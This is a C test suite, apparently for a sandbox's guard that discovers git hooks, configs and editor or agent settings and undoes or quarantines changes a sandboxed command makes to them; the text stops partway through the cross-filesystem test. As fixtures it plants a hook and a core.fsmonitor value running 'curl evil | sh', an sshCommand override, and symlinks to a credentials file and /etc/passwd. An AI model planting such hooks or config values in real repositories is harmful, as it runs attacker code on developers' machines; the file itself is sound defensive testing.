@@ -1,0 +1,896 @@
+/* guard: discovery of the trust hand-offs on real temporary trees, and
+ * the undoing of every kind of change: a new hook, a changed config, a
+ * removed .envrc, a planted symlink, new directories, a new nested
+ * repository, a file over the size cap; then a killed run undone by the
+ * next one, two concurrent runs, an unchanged workspace, and a timing
+ * diag on a large synthetic workspace. */
+#include "jail/guard.h"
+
+#include <dirent.h>
+#include <fcntl.h>
+#include <linux/magic.h>
+#include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/wait.h>
+#include <time.h>
+
+#include "jail/paths.h"
+#include "jail/util.h"
+#include "tests/tap.h"
+
+static char *tmp_dir(const char *what)
+{
+	char *t = xasprintf("/tmp/stockade-guard-%s-XXXXXX", what);
+	if (!mkdtemp(t)) {
+		perror("mkdtemp");
+		exit(1);
+	}
+	return t;
+}
+
+static void mkdirs(const char *root, const char *rel)
+{
+	_cleanup_free_ char *full = path_join(root, rel);
+	for (char *p = full + strlen(root) + 1;; p++) {
+		if (*p == '/' || !*p) {
+			char c = *p;
+			*p = '\0';
+			if (mkdir(full, 0755) < 0 && errno != EEXIST) {
+				fprintf(stderr, "mkdir %s: %m\n", full);
+				exit(1);
+			}
+			*p = c;
+			if (!c)
+				break;
+		}
+	}
+}
+
+static void put_mode(const char *root, const char *rel, const char *content, mode_t mode)
+{
+	_cleanup_free_ char *dir = xstrdup(rel);
+	char *slash = strrchr(dir, '/');
+	if (slash) {
+		*slash = '\0';
+		mkdirs(root, dir);
+	}
+	_cleanup_free_ char *full = path_join(root, rel);
+	int fd = open(full, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
+	if (fd < 0 || write_all(fd, content, strlen(content)) < 0) {
+		fprintf(stderr, "write %s: %m\n", full);
+		exit(1);
+	}
+	fchmod(fd, mode);
+	close(fd);
+}
+
+static void put(const char *root, const char *rel, const char *content)
+{
+	put_mode(root, rel, content, 0644);
+}
+
+static void slink(const char *root, const char *rel, const char *target)
+{
+	_cleanup_free_ char *full = path_join(root, rel);
+	if (symlink(target, full) < 0) {
+		fprintf(stderr, "symlink %s: %m\n", full);
+		exit(1);
+	}
+}
+
+/* The content of a file, or NULL when it cannot be read. */
+static char *slurp(const char *root, const char *rel)
+{
+	_cleanup_free_ char *full = rel ? path_join(root, rel) : xstrdup(root);
+	char *buf = NULL;
+	size_t len;
+	if (read_file_at(AT_FDCWD, full, 64 << 20, &buf, &len) < 0)
+		return NULL;
+	return buf;
+}
+
+static bool exists(const char *root, const char *rel)
+{
+	_cleanup_free_ char *full = path_join(root, rel);
+	struct stat st;
+	return lstat(full, &st) == 0;
+}
+
+static char *link_target(const char *root, const char *rel)
+{
+	_cleanup_free_ char *full = path_join(root, rel);
+	char buf[4096];
+	ssize_t n = readlink(full, buf, sizeof(buf) - 1);
+	if (n < 0)
+		return NULL;
+	buf[n] = '\0';
+	return xstrdup(buf);
+}
+
+static void diag_strv(const char *label, char **v)
+{
+	diag("%s:", label);
+	for (size_t i = 0; v && v[i]; i++)
+		diag("  %s", v[i]);
+}
+
+static void test_discover(void)
+{
+	_cleanup_free_ char *ws = tmp_dir("ws");
+	_cleanup_free_ char *home = tmp_dir("home");
+	_cleanup_free_ char *outside = tmp_dir("outside");
+	put(outside, "secret", "keep out\n");
+
+	put(ws, ".git/HEAD", "ref: refs/heads/main\n");
+	put(ws, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+	/* the last value wins, and a subsection or another section is not
+	 * core: these come after the real one */
+	put(ws, ".git/config", "[core]\n\tbare = false\n"
+			       "[core]\n\thooksPath = .githooks ; a comment\n"
+			       "[core \"x\"]\n\thooksPath = not-this\n"
+			       "[other]\n\thooksPath = nor-this\n"
+			       "[core.sub]\n\thooksPath = nor-that\n");
+	/* a worktree whose gitdir lies inside the workspace, relative */
+	put(ws, "wt/.git", "gitdir: ../.gitdirs/wt\n");
+	_cleanup_free_ char *abs_hooks = xasprintf("[CORE]\nHooksPath = \"%s/abs hooks\"\n", ws);
+	put(ws, ".gitdirs/wt/config", abs_hooks);
+	/* one whose gitdir lies outside */
+	_cleanup_free_ char *out_ptr = xasprintf("gitdir: %s\n", outside);
+	put(ws, "out/.git", out_ptr);
+	/* a nested repository at depth, with a relative hooksPath */
+	put(ws, "a/b/c/d/e/.git/config", "[core] hooksPath = ../../hooks-rel\n");
+	/* a symlink to it must not be walked */
+	slink(ws, "linkdir", "a");
+	/* a .git that is a symlink is kept as the symlink */
+	mkdirs(ws, "sym");
+	slink(ws, "sym/.git", outside);
+	/* a planted .vscode pointing out of the workspace */
+	slink(ws, ".vscode", outside);
+	/* root-only names deeper down are ordinary files */
+	put(ws, "deep/.envrc", "export X=1\n");
+	put(home, ".gitconfig", "[user]\n\tname = x\n[core]\n\thooksPath = .husky\n");
+
+	char *extra[] = { "tools/run.sh", NULL };
+	struct guard_options o = { .workspace = ws, .state_dir = "/nonexistent", .user_home = home, .extra = extra };
+	_cleanup_strv_ char **paths = NULL;
+	int r = guard_discover(&o, &paths);
+	is_int(r, 0, "guard_discover succeeds");
+
+	static const char *const want[] = {
+		".git/hooks", ".git/config", ".githooks", ".husky",
+		"wt/.git", ".gitdirs/wt/hooks", ".gitdirs/wt/config", "abs hooks", "wt/.husky",
+		"out/.git", "out/.husky",
+		"a/b/c/d/e/.git/hooks", "a/b/c/d/e/.git/config", "a/b/c/hooks-rel", "a/b/c/d/e/.husky",
+		"sym/.git", "sym/.husky", ".vscode",
+		"stockade.ini", ".stockade.ini", ".claude", ".idea", ".cursor", ".envrc",
+		"tools/run.sh",
+	};
+	bool all = true;
+	for (size_t i = 0; i < ARRAY_SIZE(want); i++)
+		if (!ok(strv_contains(paths, want[i]), "discovered '%s'", want[i]))
+			all = false;
+	static const char *const unwanted[] = {
+		".git", "sym/.git/hooks", ".vscode/secret", "not-this", "nor-this", "nor-that", "deep/.envrc",
+		"out/.git/hooks", "linkdir/b/c/d/e/.git/hooks", "a/b/c/d/e/.git",
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(unwanted); i++)
+		if (!ok(!strv_contains(paths, unwanted[i]), "not a hand-off: '%s'", unwanted[i]))
+			all = false;
+	bool outside_listed = false;
+	for (size_t i = 0; paths && paths[i]; i++)
+		if (paths[i][0] == '/' || strstr(paths[i], ".."))
+			outside_listed = true;
+	ok(!outside_listed, "every path is relative and inside the workspace");
+	is_int(strv_length(paths), ARRAY_SIZE(want), "nothing else discovered");
+	if (!all || strv_length(paths) != ARRAY_SIZE(want))
+		diag_strv("discovered", paths);
+
+	/* The root's .git/hooks and .git/config before `git init`. */
+	_cleanup_free_ char *empty = tmp_dir("empty");
+	struct guard_options o2 = { .workspace = empty, .state_dir = "/nonexistent" };
+	_cleanup_strv_ char **p2 = NULL;
+	is_int(guard_discover(&o2, &p2), 0, "guard_discover on an empty workspace");
+	ok(strv_contains(p2, ".git/hooks") && strv_contains(p2, ".git/config") && strv_contains(p2, ".envrc"),
+	   "an empty workspace still has .git/hooks, .git/config and .envrc");
+
+	rm_rf(ws);
+	rm_rf(home);
+	rm_rf(outside);
+	rm_rf(empty);
+}
+
+struct fixture {
+	char *ws, *state_top, *state, *home;
+	struct guard_options o;
+};
+
+static const char CONFIG[] = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
+
+static void fixture_init(struct fixture *f, const char *state_parent)
+{
+	f->ws = tmp_dir("ws");
+	if (state_parent) {
+		f->state_top = xasprintf("%s/stockade-guard-state-XXXXXX", state_parent);
+		if (!mkdtemp(f->state_top)) {
+			perror("mkdtemp");
+			exit(1);
+		}
+	} else {
+		f->state_top = tmp_dir("state");
+	}
+	/* "created if missing" */
+	f->state = path_join(f->state_top, "state/stockade");
+	f->home = tmp_dir("home");
+	put(f->ws, ".git/HEAD", "ref: refs/heads/main\n");
+	put(f->ws, ".git/config", CONFIG);
+	put_mode(f->ws, ".git/hooks/pre-commit.sample", "#!/bin/sh\necho sample\n", 0644);
+	put_mode(f->ws, ".git/hooks/post-checkout", "#!/bin/sh\necho mine\n", 0755);
+	put(f->ws, ".git/objects/ab/cdef", "object\n");
+	put(f->ws, ".envrc", "export A=1\n");
+	put(f->ws, ".idea/workspace.xml", "<project/>\n");
+	put(f->ws, "src/main.c", "int main(void) { return 0; }\n");
+	f->o = (struct guard_options){ .workspace = f->ws, .state_dir = f->state, .user_home = f->home };
+}
+
+static void fixture_done(struct fixture *f)
+{
+	rm_rf(f->ws);
+	rm_rf(f->state_top);
+	rm_rf(f->home);
+	free(f->ws);
+	free(f->state_top);
+	free(f->state);
+	free(f->home);
+}
+
+static const struct guard_change *find_change(const struct guard_report *r, const char *path)
+{
+	for (size_t i = 0; i < r->n_changes; i++)
+		if (streq(r->changes[i].path, path))
+			return &r->changes[i];
+	return NULL;
+}
+
+static void diag_report(const struct guard_report *r)
+{
+	for (size_t i = 0; i < r->n_changes; i++)
+		diag("  change %s '%s' -> %s", guard_change_kind_name(r->changes[i].kind), r->changes[i].path,
+		     r->changes[i].quarantined ? r->changes[i].quarantined : "(nothing quarantined)");
+	for (size_t i = 0; r->unguarded && r->unguarded[i]; i++)
+		diag("  unguarded '%s'", r->unguarded[i]);
+}
+
+static mode_t mode_of(const char *root, const char *rel)
+{
+	_cleanup_free_ char *full = path_join(root, rel);
+	struct stat st;
+	return lstat(full, &st) < 0 ? 0 : st.st_mode;
+}
+
+/* Checks one change: its kind, and what the quarantine holds. */
+static void check_change(const struct guard_report *r, const char *path, enum guard_change_kind kind,
+			 const char *q_rel, const char *q_content)
+{
+	const struct guard_change *c = find_change(r, path);
+	if (!ok(c != NULL, "change to '%s' reported", path))
+		return;
+	is_str(guard_change_kind_name(c->kind), guard_change_kind_name(kind), "'%s' reported as %s", path,
+	       guard_change_kind_name(kind));
+	if (!q_content)
+		return;
+	if (!ok(c->quarantined != NULL, "'%s' quarantined", path))
+		return;
+	_cleanup_free_ char *got = slurp(c->quarantined, q_rel);
+	is_str(got, q_content, "quarantine holds the new content of '%s'", path);
+}
+
+static void test_undo(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	_cleanup_free_ char *outside = tmp_dir("outside");
+	put(outside, "credentials", "aws secret\n");
+
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	int r = guard_begin(&f.o, &g, &rep);
+	is_int(r, 0, "guard_begin");
+	is_int(rep.n_changes, 0, "nothing to undo at the first begin");
+	ok(rep.n_files >= 5, "baseline holds the hand-off files (%zu)", rep.n_files);
+	is_int(rep.n_copied, rep.n_files, "every file copied the first time");
+	guard_report_free(&rep);
+	if (!g) {
+		fixture_done(&f);
+		return;
+	}
+
+	/* What a hostile command does. */
+	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
+	put(f.ws, ".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+	_cleanup_free_ char *envrc = path_join(f.ws, ".envrc");
+	unlink(envrc);
+	slink(f.ws, ".vscode", outside);
+	put(f.ws, ".claude/settings.json", "{\"hooks\": \"evil\"}\n");
+	put_mode(f.ws, "sub/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	put(f.ws, "sub/.git/HEAD", "ref: refs/heads/main\n");
+	_cleanup_free_ char *sample = path_join(f.ws, ".git/hooks/pre-commit.sample");
+	chmod(sample, 0755);
+	_cleanup_free_ char *idea = path_join(f.ws, ".idea");
+	rm_rf(idea);
+	put(f.ws, ".idea", "not a directory\n");
+	/* and what it may do: */
+	put(f.ws, "src/main.c", "int main(void) { return 1; }\n");
+	put(f.ws, ".git/objects/ab/new", "object\n");
+
+	r = guard_end(g, &rep);
+	is_int(r, 0, "guard_end");
+	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\ncurl evil | sh\n");
+	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the new hook is gone from .git/hooks");
+
+	check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+	is_str(config, CONFIG, ".git/config restored byte for byte");
+
+	check_change(&rep, ".envrc", GUARD_REMOVED, NULL, NULL);
+	_cleanup_free_ char *env = slurp(f.ws, ".envrc");
+	is_str(env, "export A=1\n", "a removed .envrc comes back");
+
+	const struct guard_change *c = find_change(&rep, ".vscode");
+	check_change(&rep, ".vscode", GUARD_CREATED, NULL, NULL);
+	ok(!exists(f.ws, ".vscode"), "the planted .vscode symlink is gone");
+	_cleanup_free_ char *qtarget = c && c->quarantined ? link_target(c->quarantined, NULL) : NULL;
+	is_str(qtarget, outside, "the quarantine holds the symlink itself, target intact");
+	_cleanup_free_ char *cred = slurp(outside, "credentials");
+	is_str(cred, "aws secret\n", "the symlink's target outside the workspace is untouched");
+	DIR *dir = opendir(outside);
+	size_t n_out = 0;
+	for (struct dirent *de; dir && (de = readdir(dir));)
+		n_out += de->d_name[0] != '.';
+	if (dir)
+		closedir(dir);
+	is_int(n_out, 1, "nothing was added beside it");
+
+	check_change(&rep, ".claude", GUARD_CREATED, "settings.json", "{\"hooks\": \"evil\"}\n");
+	ok(!exists(f.ws, ".claude"), "a new .claude is gone");
+
+	check_change(&rep, "sub/.git/hooks", GUARD_CREATED, "pre-commit", "#!/bin/sh\nevil\n");
+	ok(!exists(f.ws, "sub/.git/hooks"), "a new nested repository's hooks are gone");
+	ok(exists(f.ws, "sub/.git/HEAD"), "the rest of the new repository stays");
+
+	check_change(&rep, ".git/hooks/pre-commit.sample", GUARD_CHANGED, NULL, NULL);
+	is_int(mode_of(f.ws, ".git/hooks/pre-commit.sample") & 07777, 0644, "chmod +x undone");
+
+	check_change(&rep, ".idea", GUARD_CHANGED, NULL, "not a directory\n");
+	_cleanup_free_ char *ws_xml = slurp(f.ws, ".idea/workspace.xml");
+	is_str(ws_xml, "<project/>\n", "a directory replaced by a file comes back with its content");
+
+	_cleanup_free_ char *src = slurp(f.ws, "src/main.c");
+	is_str(src, "int main(void) { return 1; }\n", "an ordinary file keeps the command's change");
+	ok(exists(f.ws, ".git/objects/ab/new"), "a new git object stays");
+	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
+	is_str(hook, "#!/bin/sh\necho mine\n", "an untouched hook is untouched");
+	is_int(rep.n_changes, 8, "exactly the eight changes are reported");
+	if (rep.n_changes != 8)
+		diag_report(&rep);
+	guard_report_free(&rep);
+	guard_free(g);
+
+	/* The quarantine is private. */
+	_cleanup_free_ char *qdir = path_join(f.state, "quarantine");
+	is_int(mode_of(qdir, NULL) & 07777, 0700, "the quarantine folder is 0700");
+
+	rm_rf(outside);
+	fixture_done(&f);
+}
+
+/* Symlinked hand-offs, a symlink retargeted, a fifo, a removed tree, and
+ * a new .git file pointing at an ordinary folder. */
+static void test_more_kinds(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	_cleanup_free_ char *outside = tmp_dir("outside");
+	/* .git/hooks kept in the tree, as many projects do */
+	_cleanup_free_ char *hooks = path_join(f.ws, ".git/hooks");
+	rm_rf(hooks);
+	put_mode(f.ws, "tools/hooks/pre-commit", "#!/bin/sh\nlint\n", 0755);
+	slink(f.ws, ".git/hooks", "../tools/hooks");
+	put(f.ws, "shared/cursor/rules.md", "be nice\n");
+	slink(f.ws, ".cursor", "shared/cursor");
+	/* a folder that looks like a git directory and is not one */
+	put(f.ws, "web/src/hooks/useThing.js", "export {}\n");
+	put(f.ws, "web/src/config", "x\n");
+
+	_cleanup_strv_ char **paths = NULL;
+	is_int(guard_discover(&f.o, &paths), 0, "guard_discover");
+	ok(strv_contains(paths, ".git/hooks") && strv_contains(paths, "tools/hooks"),
+	   "a symlinked .git/hooks is kept, and so is the folder inside the workspace it points at");
+	ok(strv_contains(paths, ".cursor") && strv_contains(paths, "shared/cursor"), "likewise a symlinked .cursor");
+	ok(!strv_contains(paths, "web/src/hooks"), "an ordinary folder named hooks is not a hand-off");
+
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	guard_report_free(&rep);
+	if (g) {
+
+		put_mode(f.ws, "tools/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+		_cleanup_free_ char *cursor = path_join(f.ws, ".cursor");
+		unlink(cursor);
+		slink(f.ws, ".cursor", outside);
+		_cleanup_free_ char *fifo = path_join(f.ws, "tools/hooks/pre-push");
+		mkfifo(fifo, 0600);
+		_cleanup_free_ char *idea = path_join(f.ws, ".idea");
+		rm_rf(idea);
+		put(f.ws, "web/.git", "gitdir: src\n");
+
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		check_change(&rep, "tools/hooks/pre-commit", GUARD_CHANGED, NULL, "#!/bin/sh\nevil\n");
+		_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/pre-commit");
+		is_str(hook, "#!/bin/sh\nlint\n", "the hook behind the symlinked .git/hooks is restored");
+
+		const struct guard_change *c = find_change(&rep, ".cursor");
+		check_change(&rep, ".cursor", GUARD_CHANGED, NULL, NULL);
+		_cleanup_free_ char *target = link_target(f.ws, ".cursor");
+		is_str(target, "shared/cursor", "a retargeted symlink points where it did");
+		_cleanup_free_ char *qtarget = c && c->quarantined ? link_target(c->quarantined, NULL) : NULL;
+		is_str(qtarget, outside, "the retargeted symlink is in the quarantine");
+
+		c = find_change(&rep, "tools/hooks/pre-push");
+		check_change(&rep, "tools/hooks/pre-push", GUARD_CREATED, NULL, NULL);
+		ok(!exists(f.ws, "tools/hooks/pre-push"), "a planted fifo is gone");
+		ok(c && c->quarantined && S_ISFIFO(mode_of(c->quarantined, NULL)), "and in the quarantine, as a fifo");
+
+		check_change(&rep, ".idea", GUARD_REMOVED, NULL, NULL);
+		_cleanup_free_ char *xml = slurp(f.ws, ".idea/workspace.xml");
+		is_str(xml, "<project/>\n", "a removed directory comes back with its content");
+
+		check_change(&rep, "web/.git", GUARD_CREATED, NULL, "gitdir: src\n");
+		ok(exists(f.ws, "web/src/hooks/useThing.js") && exists(f.ws, "web/src/config"),
+		   "what a new .git file points at is not swept away with it");
+		is_int(rep.n_changes, 5, "five changes");
+		if (rep.n_changes != 5)
+			diag_report(&rep);
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+	rm_rf(outside);
+	fixture_done(&f);
+}
+
+/* The content of rel in any quarantine folder, or NULL. */
+static char *find_in_quarantine(const char *state, const char *rel)
+{
+	_cleanup_free_ char *top = path_join(state, "quarantine");
+	DIR *d = opendir(top);
+	char *found = NULL;
+	for (struct dirent *de; d && !found && (de = readdir(d));) {
+		if (de->d_name[0] == '.')
+			continue;
+		_cleanup_free_ char *dir = path_join(top, de->d_name);
+		found = slurp(dir, rel);
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+/* The state folder of the one workspace a test used. */
+static char *guard_state_dir(const char *state)
+{
+	_cleanup_free_ char *top = path_join(state, "guard");
+	DIR *d = opendir(top);
+	char *found = NULL;
+	for (struct dirent *de; d && (de = readdir(d));)
+		if (de->d_name[0] != '.')
+			found = path_join(top, de->d_name);
+	if (d)
+		closedir(d);
+	return found;
+}
+
+static char *repeat(char c, size_t n)
+{
+	char *s = xmalloc(n + 1);
+	memset(s, c, n);
+	s[n] = '\0';
+	return s;
+}
+
+static void test_over_cap(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	f.o.file_cap = 1024;
+	_cleanup_free_ char *big = repeat('x', 4096), *big2 = repeat('y', 4096);
+	put_mode(f.ws, ".git/hooks/pre-push", big, 0755);
+
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with a 1 KiB cap");
+	ok(strv_contains(rep.unguarded, ".git/hooks/pre-push"), "the 4 KiB hook is named as unguarded");
+	is_int(strv_length(rep.unguarded), 1, "and nothing else");
+	guard_report_free(&rep);
+	if (g) {
+		put_mode(f.ws, ".git/hooks/pre-push", big2, 0755);
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		check_change(&rep, ".git/hooks/pre-push", GUARD_UNRESTORABLE, NULL, big2);
+		ok(!exists(f.ws, ".git/hooks/pre-push"), "the changed over-cap hook is gone from the workspace");
+		is_int(rep.n_changes, 1, "one change");
+		guard_report_free(&rep);
+		guard_free(g);
+
+		/* the total cap: what does not fit is kept by fingerprint */
+		f.o.file_cap = 0;
+		f.o.total_cap = 16;
+		g = NULL;
+		is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with a 16-byte total cap");
+		ok(strv_length(rep.unguarded) >= 3, "files past the total cap are named as unguarded (%zu)",
+		   strv_length(rep.unguarded));
+		guard_report_free(&rep);
+		if (g) {
+			is_int(guard_end(g, &rep), 0, "guard_end");
+			is_int(rep.n_changes, 0, "an unchanged over-cap file is no change");
+			guard_report_free(&rep);
+			guard_free(g);
+		}
+	}
+	fixture_done(&f);
+}
+
+static void test_crash(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	const char *evil = "#!/bin/sh\ncurl evil | sh\n";
+
+	fflush(stdout);
+	pid_t pid = fork();
+	if (pid == 0) {
+		struct guard *g = NULL;
+		struct guard_report rep = { 0 };
+		int r = guard_begin(&f.o, &g, &rep);
+		guard_report_free(&rep);
+		if (r < 0)
+			_exit(2);
+		put_mode(f.ws, ".git/hooks/post-checkout", evil, 0755);
+		/* killed: no guard_end */
+		guard_free(g);
+		_exit(0);
+	}
+	/* Exited but not reaped: a zombie runs nothing any more. */
+	siginfo_t info = { 0 };
+	waitid(P_PID, (id_t)pid, &info, WEXITED | WNOWAIT);
+	is_int(info.si_code == CLD_EXITED ? info.si_status : -1, 0,
+	       "a child began a guard, changed a hook and exited without ending it");
+	_cleanup_free_ char *left = slurp(f.ws, ".git/hooks/post-checkout");
+	is_str(left, evil, "the killed run's change is still there");
+
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep), 0, "the next guard_begin");
+	check_change(&rep, ".git/hooks/post-checkout", GUARD_CHANGED, NULL, evil);
+	is_int(rep.n_changes, 1, "one change undone");
+	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
+	is_str(hook, "#!/bin/sh\necho mine\n", "the hook is restored");
+	is_int(mode_of(f.ws, ".git/hooks/post-checkout") & 07777, 0755, "with its mode");
+	guard_report_free(&rep);
+	int status = -1;
+	waitpid(pid, &status, 0);
+	if (g) {
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(rep.n_changes, 0, "nothing left to undo");
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+
+	/* A run registered under this very pid with another start time is
+	 * a dead one whose pid was reused; one whose pid is gone is dead. */
+	_cleanup_free_ char *gdir = guard_state_dir(f.state);
+	_cleanup_free_ char *fake = xasprintf("%s/runs/%d-1-0", gdir ? gdir : "/nonexistent", (int)getpid());
+	_cleanup_free_ char *gone = xasprintf("%s/runs/2147483646-1-0", gdir ? gdir : "/nonexistent");
+	g = NULL;
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	guard_report_free(&rep);
+	guard_free(g);		/* this live one stays registered */
+	int fd = open(fake, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
+	ok(fd >= 0, "a run with a reused pid registered");
+	if (fd >= 0)
+		close(fd);
+	fd = open(gone, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
+	if (fd >= 0)
+		close(fd);
+	put(f.ws, ".git/config", "[core]\n\tsshCommand = evil\n");
+	/* This process is alive: its own registration keeps the baseline,
+	 * and the fake one is dropped as dead. */
+	g = NULL;
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin beside a live run of this process");
+	is_int(rep.n_changes, 0, "a live run's changes are not undone at begin");
+	is_int(rep.n_copied, 0, "its baseline is reused as is");
+	guard_report_free(&rep);
+	ok(!exists(fake, NULL), "the run with the reused pid is dropped");
+	ok(!exists(gone, NULL), "the run whose pid is gone is dropped");
+	if (g) {
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tsshCommand = evil\n");
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+	fixture_done(&f);
+}
+
+static void test_concurrent(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	struct guard *a = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &a, &rep), 0, "first guard begun");
+	guard_report_free(&rep);
+	if (!a) {
+		fixture_done(&f);
+		return;
+	}
+
+	int to_child[2], to_parent[2];
+	if (pipe2(to_child, O_CLOEXEC) < 0 || pipe2(to_parent, O_CLOEXEC) < 0) {
+		perror("pipe2");
+		exit(1);
+	}
+	fflush(stdout);
+	pid_t pid = fork();
+	if (pid == 0) {
+		close(to_child[1]);
+		close(to_parent[0]);
+		struct guard *b = NULL;
+		struct guard_report r = { 0 };
+		int ret = guard_begin(&f.o, &b, &r);
+		int msg[3] = { ret, (int)r.n_copied, (int)r.n_changes };
+		guard_report_free(&r);
+		/* the second run writes before the first ends */
+		put(f.ws, ".git/config", "[core]\n\tpager = evil-b\n");
+		write_all(to_parent[1], msg, sizeof(msg));
+		char go;
+		if (read(to_child[0], &go, 1) != 1 || !b)
+			_exit(1);
+		/* and after */
+		put_mode(f.ws, ".git/hooks/from-b", "evil-b\n", 0755);
+		ret = guard_end(b, &r);
+		int done[2] = { ret, find_change(&r, ".git/hooks/from-b") && r.n_changes == 1 };
+		guard_report_free(&r);
+		guard_free(b);
+		write_all(to_parent[1], done, sizeof(done));
+		_exit(0);
+	}
+	close(to_child[0]);
+	close(to_parent[1]);
+	int msg[3] = { -1, -1, -1 };
+	size_t got = 0;
+	read_all(to_parent[0], msg, sizeof(msg), &got);
+	is_int(msg[0], 0, "second guard begun in another process while the first runs");
+	is_int(msg[1], 0, "it reuses the first one's baseline (nothing copied)");
+	is_int(msg[2], 0, "and undoes nothing of a live run");
+
+	put_mode(f.ws, ".git/hooks/from-a", "evil-a\n", 0755);
+	is_int(guard_end(a, &rep), 0, "first guard ends while the second runs");
+	check_change(&rep, ".git/hooks/from-a", GUARD_CREATED, NULL, "evil-a\n");
+	check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tpager = evil-b\n");
+	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+	is_str(config, CONFIG, "the config the second run changed is restored by the first's end");
+	guard_report_free(&rep);
+	guard_free(a);
+
+	if (write(to_child[1], "g", 1) != 1)
+		perror("write");
+	int done[2] = { -1, 0 };
+	read_all(to_parent[0], done, sizeof(done), &got);
+	int status = -1;
+	waitpid(pid, &status, 0);
+	is_int(status, 0, "the second process finished");
+	is_int(done[0], 0, "the second guard still ends cleanly");
+	ok(done[1], "it undid exactly its late change");
+	ok(!exists(f.ws, ".git/hooks/from-b"), "the second run's hook is gone");
+	_cleanup_free_ char *qa = find_in_quarantine(f.state, ".git/hooks/from-a");
+	_cleanup_free_ char *qb = find_in_quarantine(f.state, ".git/hooks/from-b");
+	_cleanup_free_ char *qc = find_in_quarantine(f.state, ".git/config");
+	ok(qa && qb && qc && streq(qa, "evil-a\n") && streq(qb, "evil-b\n") && strstr(qc, "evil-b"),
+	   "nothing lost: every new content is in a quarantine");
+	close(to_child[1]);
+	close(to_parent[0]);
+	fixture_done(&f);
+}
+
+static void test_unchanged(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	size_t files = rep.n_files;
+	guard_report_free(&rep);
+	if (!g) {
+		fixture_done(&f);
+		return;
+	}
+	is_int(guard_end(g, &rep), 0, "guard_end on an unchanged workspace");
+	is_int(rep.n_changes, 0, "reports no change");
+	guard_report_free(&rep);
+	guard_free(g);
+
+	g = NULL;
+	is_int(guard_begin(&f.o, &g, &rep), 0, "a second guard_begin");
+	is_int(rep.n_copied, 0, "copies nothing");
+	is_int(rep.n_files, files, "and holds the same files");
+	guard_report_free(&rep);
+	if (g) {
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+
+	/* the user's own edit between runs is the new baseline */
+	put(f.ws, ".git/config", "[core]\n\teditor = vi\n");
+	g = NULL;
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin after the user changed .git/config");
+	is_int(rep.n_copied, 1, "copies that one file again");
+	is_int(rep.n_changes, 0, "and undoes nothing");
+	guard_report_free(&rep);
+	if (g) {
+		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(rep.n_changes, 0, "the user's edit stays");
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+	is_str(config, "[core]\n\teditor = vi\n", ".git/config is the user's");
+	fixture_done(&f);
+}
+
+static void test_cross_filesystem(void)
+{
+	struct stat a, b;
+	if (stat("/dev/shm", &a) < 0 || stat("/tmp", &b) < 0 || a.st_dev == b.st_dev || access("/dev/shm", W_OK) < 0) {
+		ok(1, "quarantine on another filesystem # SKIP /dev/shm is not a second filesystem");
+		return;
+	}
+	struct fixture f;
+	fixture_init(&f, "/dev/shm");
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with the state on another filesystem");
+	guard_report_free(&rep);
+	if (g) {
+		put(f.ws, ".cursor/rules/a/b.md", "evil\n");
+		slink(f.ws, ".cursor/rules/link", "/etc/passwd");
+		put(f.ws, ".git/config", "[core]\n\tpager = evil\n");
+		is_int(guard_end(g, &rep), 0, "guard_end copies across filesystems");
